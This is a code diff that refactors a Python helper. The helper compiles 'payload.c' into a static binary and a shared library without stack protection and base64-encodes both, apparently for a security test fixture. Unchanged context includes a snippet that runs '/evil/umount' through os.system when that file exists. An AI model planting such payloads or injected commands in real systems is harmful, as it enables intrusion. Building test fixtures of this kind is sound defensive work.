@@ -25,13 +25,12 @@ _LIBRARIES = "/usr/lib/x86_64-linux-gnu"
 
 
 @cache
-def payload(*flags: str) -> str:
-    """The payload compiled so, in base64."""
-    source = Path(__file__).with_name("payload.c")
+def compiled(source: str, *flags: str) -> str:
+    """A program or library of ours that needs no other, in base64."""
     with tempfile.TemporaryDirectory() as directory:
         made = Path(directory, "made")
         argv = ["gcc", "-O1", "-nostdlib", "-fno-stack-protector", *flags, "-o", str(made)]
-        subprocess.run([*argv, str(source)], check=True)
+        subprocess.run([*argv, str(Path(__file__).with_name(source))], check=True)
         return base64.b64encode(made.read_bytes()).decode()
 
 
@@ -42,7 +41,8 @@ def _python() -> str:
 
 
 def _content() -> Json:
-    program, library = payload("-static"), payload("-shared", "-fPIC", "-DLIBRARY")
+    program = compiled("payload.c", "-static")
+    library = compiled("payload.c", "-shared", "-fPIC", "-DLIBRARY")
     start = "import os\nif os.path.exists('/evil/umount'): os.system('/evil/umount')\n"
     return {
         "data": {
